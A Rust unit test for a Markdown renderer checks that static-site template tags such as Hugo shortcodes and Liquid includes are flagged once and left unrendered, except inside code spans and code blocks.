fn template_code_is_told_of_once_and_left_as_it_is() {
    for (body, wanted) in [
        ("A {{< video x >}} and {{ site.url }}.", 1),
        ("{% include x.html %}", 1),
        ("<b>x</b> {{% note %}}", 1),
        ("In code: `{{< video x >}}`.\n\n```\n{% raw %}\n```\n\n    {{ four }}\n", 0),
        ("A set {{1}, {2}} of {%} and {{ no end", 0),
    ] {
        let found = rules(body, Markup::Markdown);
        assert_eq!(found, vec!["template-code"; wanted], "{body}");
    }
    let mut report = Report::new("a.md", "One\ntwo {{< x >}} three");
    let base = Url::parse("https://t.example/a/").unwrap();
    let html = render(report.text(), Markup::Markdown, &Context { base: &base, prefix: "p-" }, &mut report);
    assert_eq!(html, "<p>One\ntwo {{&lt; x &gt;}} three</p>");
    let place = report.diagnostics()[0].place.unwrap();
    assert_eq!((place.line, place.column, place.width), (2, 5, 9));
}
